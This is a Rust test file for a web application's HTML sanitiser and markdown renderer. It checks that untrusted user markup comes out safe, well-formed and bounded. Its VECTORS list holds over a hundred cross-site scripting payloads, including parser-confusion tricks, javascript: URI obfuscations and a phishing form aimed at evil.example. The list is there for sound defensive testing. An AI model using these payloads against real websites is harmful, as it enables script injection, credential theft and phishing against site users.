//! Strangers' text as HTML: what must never come through, what must, and what holds for any input.

use cirrus::web::markup::{self, Heading, MAX_BYTES, MAX_DEPTH, MAX_LINKS, markdown, sanitise};
use proptest::prelude::*;
use rxml::{Event, Parse, Parser};
use scraper::{Html, Node, Selector};

/// Ways to run a script, to style, to send a form, to speak with the page's own vocabulary, to hide where a link
/// leads, or to confuse a parser into one of these.
const VECTORS: &[&str] = &[
    "<script>run()</script>",
    "<script src=https://evil.example/x.js></script>",
    "<SCRIPT\n>run()</SCRIPT\t>",
    "<scr<script>ipt>run()</scr</script>ipt>",
    "<script/x>run()</script>",
    "<script>run()",
    "</p><script>run()</script>",
    "<img src=x onerror=run()>",
    "<img src=\"x\" ONERROR = 'run()'>",
    "<img src=https://evil.example/pixel.gif alt=\"\" onload=run()>",
    "<img src=`x`onerror=run()>",
    "<img/src=x/onerror=run()>",
    "<image href=x onerror=run()>",
    "<a href=javascript:run()>x</a>",
    "<a href=\"JaVaScRiPt:run()\">x</a>",
    "<a href=\" javascript:run()\">x</a>",
    "<a href=\"java\tscript:run()\">x</a>",
    "<a href=\"java&#10;script:run()\">x</a>",
    "<a href=\"&#x6a;avascript:run()\">x</a>",
    "<a href=\"&#106avascript:run()\">x</a>",
    "<a href=\"\u{1}javascript:run()\">x</a>",
    "<a href=\"javascript&colon;run()\">x</a>",
    "<a href=vbscript:run()>x</a>",
    "<a href=\"data:text/html,<script>run()</script>\">x</a>",
    "<a href=\"blob:https://example.org/1\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"view-source:javascript:run()\">x</a>",
    "<a href=/sign-out>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=\"?before=1\">x</a>",
    "<a href=#main>x</a>",
    "<a href=\"\\\\evil.example\">x</a>",
    "<a href=\"https:\\\\\\evil.example\">x</a>",
    "<a href=https://example.org onclick=run() onmouseover=run() onfocus=run() autofocus tabindex=1>x</a>",
    "<a href=https://example.org target=_blank rel=opener download ping=https://evil.example>x</a>",
    "<a name=main id=main class=button>x</a>",
    "<svg onload=run()>",
    "<svg><script>run()</script></svg>",
    "<svg><a xlink:href=javascript:run()><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:run() /></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=run()>\"></svg>",
    "<svg><foreignObject><p onclick=run()>x</p></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=run()>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=run()&gt;\">",
    "<math><annotation-xml encoding=text/html><script>run()</script></annotation-xml></math>",
    "<math href=javascript:run()>x</math>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<p class=problem id=status role=alert aria-live=assertive data-author=a>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"<script>run()</script>\"></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x></applet>",
    "<frameset onload=run()><frame src=x></frameset>",
    "<form action=https://evil.example><input name=password type=password><button>Sign in</button></form>",
    "<input autofocus onfocus=run()>",
    "<button formaction=javascript:run()>x</button>",
    "<textarea><img src=x onerror=run()></textarea>",
    "<select><option>x<script>run()</script></select>",
    "<isindex action=javascript:run() type=image>",
    "<details open ontoggle=run()><summary>x</summary></details>",
    "<dialog open>x</dialog>",
    "<video src=x onerror=run()><source onerror=run()></video>",
    "<audio src=https://evil.example/x.mp3 autoplay></audio>",
    "<video poster=javascript:run()></video>",
    "<template><script>run()</script></template>",
    "<template shadowrootmode=open><script>run()</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=run()>\">",
    "<noembed><img src=\"</noembed><img src=x onerror=run()>\">",
    "<xmp><img src=\"</xmp><img src=x onerror=run()>\">",
    "<plaintext><script>run()</script>",
    "<title><img src=\"</title><img src=x onerror=run()>\">",
    "<!--><script>run()</script>-->",
    "<!--<img src=\"--><img src=x onerror=run()>\">",
    "<![CDATA[<script>run()</script>]]>",
    "<?xml-stylesheet href=\"javascript:run()\"?>",
    "<?php run() ?>",
    "<!DOCTYPE html [<!ENTITY x \"<script>run()</script>\">]>&x;",
    "<marquee onstart=run()>x</marquee>",
    "<body onload=run()>",
    "<html manifest=x onmouseenter=run()>",
    "<custom-element onclick=run()>x</custom-element>",
    "<div hx-get=/follows hx-trigger=load>x</div>",
    "<div data-hx-post=/sign-out data-hx-trigger=load data-hx-nonce=x>x</div>",
    "<div hx-on:click=run() hx-on::load=run()>x</div>",
    "<hx-partial hx-target=body><p>x</p></hx-partial>",
    "<div hx-swap-oob=true id=composer>x</div>",
    "<table background=javascript:run()><td background=x>x</table>",
    "<bgsound src=javascript:run()>",
    "<layer src=x></layer><ilayer></ilayer>",
    "<p is=evil-p slot=x part=y nonce=z itemprop=w>x</p>",
    "<q cite=javascript:run()>x</q><blockquote cite=javascript:run()>x</blockquote>",
    "<ol start=\"1\" reversed type=i onclick=run()><li value=9 onclick=run()>x</ol>",
    "<a href=\"https://example.org/\"onmouseover=\"run()\">x</a>",
    "<a href='https://example.org/?\"><script>run()</script>'>x</a>",
    "<a href=\"https://example.org/`onmouseover=run()\">x</a>",
    "<a href=\"xmpp:a@example.org\" onclick=run()>x</a>",
    "\u{feff}<script>run()</script>",
    "<\u{0}script>run()</script>",
    "<scri\u{0}pt>run()</script>",
    "%3Cscript%3Erun()%3C/script%3E",
    "&lt;script&gt;run()&lt;/script&gt;",
    "+ADw-script+AD4-run()+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}run()\u{ff1c}/script\u{ff1e}",
];

/// The elements that may stand in a page, and the attributes of each.
fn is_ours(name: &str, attribute: &str) -> bool {
    matches!((name, attribute), ("a", "href" | "rel" | "class") | ("span", "class") | ("ol", "start"))
}

const ALLOWED: &[&str] = &[
    "a",
    "b",
    "blockquote",
    "br",
    "cite",
    "code",
    "del",
    "div",
    "em",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "small",
    "span",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "tr",
    "u",
    "ul",
    "var",
];

/// What must hold for everything that comes out, whatever went in.
fn check(html: &str, input: &str) {
    let page = Html::parse_fragment(html);
    for node in page.tree.nodes() {
        let Node::Element(element) = node.value() else { continue };
        let name = element.name();
        if matches!(name, "html" | "body") {
            continue;
        }
        assert!(ALLOWED.contains(&name), "<{name}> in {html}\nfrom {input:?}");
        for (attribute, value) in element.attrs() {
            assert!(is_ours(name, attribute), "{name} {attribute} in {html}\nfrom {input:?}");
            if attribute == "href" {
                let ours = ["/@", "/c/", "/tags/"].iter().any(|start| value.starts_with(start));
                let theirs = ["https://", "http://", "mailto:", "xmpp:"].iter().any(|scheme| value.starts_with(scheme));
                assert!(ours || theirs, "{value} from {input:?}");
                assert!(ours || element.attr("rel") == Some("nofollow noopener noreferrer ugc"), "{html}");
                assert!(!value.contains(['<', '>', '"', '\'', '`', '\n']), "{value} from {input:?}");
            }
            if attribute == "class" {
                let is_tag = value == "tag"
                    && (name == "span" || element.attr("href").is_some_and(|to| to.starts_with("/tags/")));
                assert!(is_tag || (name == "span" && value == "host"), "{value}");
            }
        }
        assert!(node.ancestors().count() <= MAX_DEPTH + 4, "too deep: {html}");
    }
    assert!(page.select(&Selector::parse("a a").unwrap()).next().is_none(), "a link in a link: {html}");
    assert!(page.select(&Selector::parse("a").unwrap()).count() <= MAX_LINKS);
    for heading in page.select(&Selector::parse("h3, h4, h5, h6, a").unwrap()) {
        assert!(heading.text().any(|text| !text.trim().is_empty()), "nothing to read in {html}\nfrom {input:?}");
    }
    // What was written is what a browser makes of it: nothing moves when it is parsed.
    let body = page.select(&Selector::parse("body").unwrap()).next();
    let again: String = body.unwrap_or(page.root_element()).inner_html();
    let normal = |html: &str| html.replace("&nbsp;", "\u{a0}").replace("<tbody>", "").replace("</tbody>", "");
    assert_eq!(normal(&again), normal(html), "from {input:?}");
}

#[test]
fn no_vector_comes_through() {
    for vector in VECTORS {
        for wrapped in [
            (*vector).to_owned(),
            format!("<p>{vector}</p>"),
            format!("<ul><li><b>{vector}"),
            format!("<table><tr><td>{vector}"),
        ] {
            check(sanitise(&wrapped, Heading(2)).as_str(), &wrapped);
        }
        check(markup::text(vector).as_str(), vector);
        let published = markdown(vector).xhtml;
        well_formed(&published);
        check(sanitise(&published, Heading(2)).as_str(), vector);
    }
    assert!(VECTORS.len() >= 80);
}

#[test]
fn the_allowlist_holds_no_way_around_sanitisers() {
    let text = include_str!("../src/web/markup/sanitise.rs");
    let list = text.split("ELEMENTS").nth(1).unwrap().split("];").next().unwrap();
    for element in
        ["svg", "math", "style", "form", "input", "template", "iframe", "annotation-xml", "animate", "set", "noscript"]
    {
        assert!(!list.contains(&format!("\"{element}\"")), "{element} is allowed");
    }
}

#[test]
fn a_form_that_looks_like_ours_is_inert() {
    let login = "<h1>Sign in</h1><form class=stacked action=/sign-in method=post><label>Password<input name=password></label><button class=button>Sign in</button></form>";
    assert_eq!(sanitise(login, Heading(2)).as_str(), "<h3>Sign in</h3>PasswordSign in");
}

#[test]
fn what_people_write_comes_through() {
    let same = [
        "<p>One <strong>bold</strong> and <em>slanted</em> word.</p>",
        "<ul><li>one</li><li>two<ul><li>deeper</li></ul></li></ul>",
        "<ol start=\"3\"><li>three</li></ol>",
        "<blockquote><p>said</p></blockquote>",
        "<pre><code>fn main() {\n    \"x\" &lt; 'y'\n}</code></pre>",
        "<p>H<sub>2</sub>O, x<sup>2</sup>, <del>old</del> <ins>new</ins></p>",
    ];
    for html in same {
        assert_eq!(sanitise(html, Heading(2)).as_str(), html);
    }
    let made = [
        ("<h1>a</h1><h6>b</h6>", "<h3>a</h3><h4>b</h4>"),
        ("<p>a<br/>b</p>", "<p>a<br>b</p>"),
        ("<div xmlns='http://www.w3.org/1999/xhtml'><p>x</p></div>", "<div><p>x</p></div>"),
        (
            "<a href='https://example.org/'>example.org</a>",
            "<a href=\"https://example.org/\" rel=\"nofollow noopener noreferrer ugc\">example.org</a>",
        ),
        ("<a href='xmpp:bob@example.org'>@bob@example.org</a>", "<a href=\"/@bob@example.org\">@bob@example.org</a>"),
        (
            "<a href='xmpp:pubsub.example.org?;node=news;item=1'>pubsub.example.org/news</a>",
            "<a href=\"/c/pubsub.example.org/news/posts/1\">pubsub.example.org/news</a>",
        ),
        ("<b>a<p>b</p></b>", "<b>a<br>b</b>"),
        ("<li>alone</li>", "<div>alone</div>"),
        ("<ul>words<li>item</li></ul>", "<ul><li>words</li><li>item</li></ul>"),
        ("<h2> </h2><p></p><th>x</th>", "x"),
    ];
    for (foreign, html) in made {
        assert_eq!(sanitise(foreign, Heading(2)).as_str(), html, "{foreign}");
    }
}

#[test]
fn a_link_shows_where_it_leads() {
    let shown = |html: &str| {
        let html = sanitise(html, Heading(2));
        let page = Html::parse_fragment(html.as_str());
        page.select(&Selector::parse(".host").unwrap()).next().map(|host| host.text().collect::<String>())
    };
    assert_eq!(shown("<a href=https://evil.example/>my bank</a>"), Some("(evil.example)".to_owned()));
    assert_eq!(shown("<a href=https://evil.example/>https://bank.example/</a>"), Some("(evil.example)".to_owned()));
    assert_eq!(shown("<a href=https://evil.example/>evil.example.bank.example</a>"), Some("(evil.example)".to_owned()));
    assert_eq!(
        shown("<a href=https://evil.example/>https://evil.example@bank.example</a>"),
        Some("(evil.example)".to_owned())
    );
    assert_eq!(shown("<a href=https://bank.example@evil.example/>bank.example</a>"), Some("(evil.example)".to_owned()));
    assert_eq!(
        shown("<a href=https://b\u{430}nk.example/>b\u{430}nk.example</a>"),
        Some("(xn--bnk-6cd.example)".to_owned())
    );
    assert_eq!(
        shown("<a href=xmpp:mallory@evil.example>alice@example.org</a>"),
        Some("(mallory@evil.example)".to_owned())
    );
    assert_eq!(
        shown("<a href=mailto:mallory@evil.example>alice@example.org</a>"),
        Some("(mallory@evil.example)".to_owned())
    );
    assert_eq!(
        shown("<a href=https://evil.example/>\u{202e}elpmaxe.live\u{202c}</a>"),
        Some("(evil.example)".to_owned())
    );
    assert_eq!(shown("<a href=https://good.example/a/b>https://good.example/a</a>"), None);
    assert_eq!(shown("<a href=https://www.good.example/>good.example</a>"), Some("(www.good.example)".to_owned()));
    assert_eq!(sanitise("<a href=https://good.example/></a>", Heading(2)).as_str().matches("good.example").count(), 2);
}

#[test]
fn pictures_are_links_that_say_so() {
    let html = sanitise(
        "<img src='https://example.org/cat.png' alt='A cat'><img src='https://example.org/x.png'><img alt='no source'>",
        Heading(2),
    );
    assert!(html.as_str().contains(">Picture: A cat <span class=\"host\">(example.org)</span></a>"), "{html}");
    assert!(html.as_str().contains("Picture: no source") && !html.as_str().contains("<img"));
}

#[test]
fn bounds_hold() {
    let deep = "<blockquote>".repeat(5000) + "end";
    check(sanitise(&deep, Heading(2)).as_str(), "deep");
    let links = "<a href=https://example.org>x</a> ".repeat(200);
    check(sanitise(&links, Heading(2)).as_str(), "links");
    let long = "word ".repeat(100_000);
    for html in [sanitise(&long, Heading(2)), markup::text(&long), sanitise(&"<p>&amp;</p>".repeat(9000), Heading(2))] {
        assert!(html.as_str().len() <= MAX_BYTES + 1000, "{} bytes", html.as_str().len());
    }
    for source in [
        "> ".repeat(20_000) + "x",
        "- ".repeat(20_000) + "x",
        "[".repeat(30_000),
        "*a ".repeat(20_000),
        "&".repeat(60_000),
    ] {
        let published = markdown(&source).xhtml;
        well_formed(&published);
        assert!(published.len() <= 6 * MAX_BYTES);
    }
    assert!(markup::name(&"n".repeat(5000)).is_some_and(|name| name.chars().count() == 201));
}

#[test]
fn names_are_readable_or_refused() {
    assert_eq!(markup::name(" Alice \n Ng ").as_deref(), Some("Alice Ng"));
    assert_eq!(markup::name("\u{200b}\u{2800} \u{202e}"), None);
    assert_eq!(markup::name("A\u{202e}b\u{0}c"), Some("Abc".to_owned()));
    assert_eq!(markup::name("فاطمة").as_deref(), Some("فاطمة"));
}

#[test]
fn markdown_becomes_what_other_programs_show() {
    let cases = [
        ("Hello *you* and **you**", "<p>Hello <em>you</em> and <strong>you</strong></p>"),
        ("one\ntwo\n\nthree", "<p>one<br/>two</p><p>three</p>"),
        ("# Title\ntext", "<h1>Title</h1><p>text</p>"),
        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
        ("3. a\n4. b", "<ol start=\"3\"><li>a</li><li>b</li></ol>"),
        ("`a < b`", "<p><code>a &lt; b</code></p>"),
        ("```rust\nx & y\n```", "<pre><code>x &amp; y\n</code></pre>"),
        ("<b>raw</b>", "<p>&lt;b&gt;raw&lt;/b&gt;</p>"),
        (
            "see https://example.org/a?b=1&c=2.",
            "<p>see <a href=\"https://example.org/a?b=1&amp;c=2\">https://example.org/a?b=1&amp;c=2</a>.</p>",
        ),
        ("[words](https://example.org/)", "<p><a href=\"https://example.org/\">words</a></p>"),
        ("[x](javascript:alert)", "<p>x</p>"),
        ("![A cat](https://example.org/cat.png)", "<p><a href=\"https://example.org/cat.png\">A cat</a></p>"),
        ("hi @bob@example.org!", "<p>hi <a href=\"xmpp:bob@example.org\">@bob@example.org</a>!</p>"),
        (
            "write to snake_case_name@example.org",
            "<p>write to <a href=\"xmpp:snake_case_name@example.org\">snake_case_name@example.org</a></p>",
        ),
        ("~~gone~~", "<p><del>gone</del></p>"),
        (
            "| a | b |\n|---|---|\n| 1 | 2 |",
            "<table><tr><th>a</th><th>b</th></tr><tr><td>1</td><td>2</td></tr></table>",
        ),
    ];
    for (source, xhtml) in cases {
        assert_eq!(markdown(source).xhtml, xhtml, "{source}");
    }
}

#[test]
fn tags_are_found() {
    let tags = |source: &str| markdown(source).tags;
    assert_eq!(tags("#Rust and #rust, (#XMPP) #2026 #über_alles. #a-b!"), ["rust", "xmpp", "über_alles", "a-b"]);
    assert_eq!(
        tags("no#tag `#code` https://example.org/#fragment [#in](https://example.org) # Heading"),
        Vec::<String>::new()
    );
    assert_eq!(tags(&(0..80).map(|n| format!("#t{n} ")).collect::<String>()).len(), 50);
    let linked = "<a class=\"tag\" href=\"/tags/clouds\">#Clouds</a>";
    assert!(markup::text("on #Clouds").as_str().contains(linked));
    let foreign = |html: &str| sanitise(html, Heading(2)).as_str().to_owned();
    assert_eq!(foreign("<p>on #Clouds, no#clouds</p>"), format!("<p>on {linked}, no#clouds</p>"));
    for untouched in ["<p><code>#clouds</code></p>", "<pre>#clouds</pre>"] {
        assert_eq!(foreign(untouched), untouched);
    }
    assert!(!foreign("<p><a href='https://example.org/'>example.org #clouds</a></p>").contains("/tags/"));
    assert_eq!(markdown("on #Clouds").xhtml, "<p>on <span class=\"tag\">#Clouds</span></p>", "nothing of ours leaves");
}

#[test]
fn the_title_is_the_beginning() {
    assert_eq!(markdown("# On clouds\n\nThey drift.").title, "On clouds");
    assert_eq!(markdown("First *line*\nsecond").title, "First line");
    let long = markdown(&"word ".repeat(60)).title;
    assert!(long.ends_with("word…") && long.chars().count() <= 100, "{long}");
    assert_eq!(markdown("").title, "");
}

/// Published text stays well-formed whatever was typed. `CIRRUS_VECTORS` may name a JSON document with more of it.
#[test]
fn what_is_typed_is_published_well_formed() {
    let mut vectors: Vec<String> = VECTORS.iter().map(|vector| (*vector).to_owned()).collect();
    if let Ok(path) = std::env::var("CIRRUS_VECTORS") {
        collect(&serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap(), &mut vectors);
    }
    for vector in vectors {
        check(sanitise(&vector, Heading(2)).as_str(), &vector);
        check(markup::text(&vector).as_str(), &vector);
        well_formed(&markdown(&vector).xhtml);
    }
}

/// Every string of a JSON document.
fn collect(value: &serde_json::Value, strings: &mut Vec<String>) {
    match value {
        serde_json::Value::String(text) => strings.push(text.clone()),
        serde_json::Value::Array(items) => items.iter().for_each(|item| collect(item, strings)),
        serde_json::Value::Object(fields) => fields.values().for_each(|field| collect(field, strings)),
        _ => {}
    }
}

/// Reads markup as XML inside the element that carries it, with the strict parser of the wire.
fn well_formed(xhtml: &str) {
    let whole = format!("<div xmlns='http://www.w3.org/1999/xhtml'>{xhtml}</div>");
    let mut input = whole.as_bytes();
    let mut parser = Parser::default();
    let mut depth = 0;
    loop {
        match parser.parse(&mut input, true) {
            Ok(Some(Event::StartElement(..))) => depth += 1,
            Ok(Some(Event::EndElement(..))) => depth -= 1,
            Ok(Some(_)) => {}
            Ok(None) => break,
            Err(error) => panic!("{error:?}: {whole}"),
        }
        assert!(depth <= MAX_DEPTH as i32 + 2, "{whole}");
    }
    assert_eq!(depth, 0, "{whole}");
}

/// Text made of the pieces that mean something to one of the parsers.
fn pieces() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => proptest::sample::select(vec![
            "<p>", "</p>", "<b>", "</b>", "<a href='https://example.org/'>", "</a>", "<ul>", "<li>", "</ul>", "<table>", "<tr>", "<td>",
            "<th>", "</table>", "<h1>", "</h1>", "<pre>", "</pre>", "<blockquote>", "</blockquote>", "<br>", "<hr>", "<div>", "</div>",
            "<img src='https://e.org/' alt='x'>", "<script>", "</script>", "<svg>", "<math>", "<style>", "<!--", "-->", "<![CDATA[", "]]>",
            "&lt;", "&", "\"", "'", "`", "<", ">", "\n", "\n\n", "* ", "- ", "1. ", "> ", "# ", "```", "**", "_", "[x](", ")", "![", "|",
            "|---|", "@a@b.example", "#tag", "https://e.org/?a=1&b=2", "xmpp:", "\t", "    ", "~~", "\\", "\u{202e}", "\u{0}", "\u{fffe}",
        ]).prop_map(str::to_owned),
        1 => "\\PC{0,5}",
    ];
    proptest::collection::vec(piece, 0..60).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1500, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn published_markdown_is_well_formed(source in pieces()) {
        well_formed(&markdown(&source).xhtml);
    }

    #[test]
    fn any_text_is_well_formed(source in "(?s).{0,200}") {
        well_formed(&markdown(&source).xhtml);
        check(markup::text(&source).as_str(), &source);
    }

    #[test]
    fn any_markup_keeps_the_rules(foreign in pieces()) {
        let clean = sanitise(&foreign, Heading(2));
        check(clean.as_str(), &foreign);
    }
}
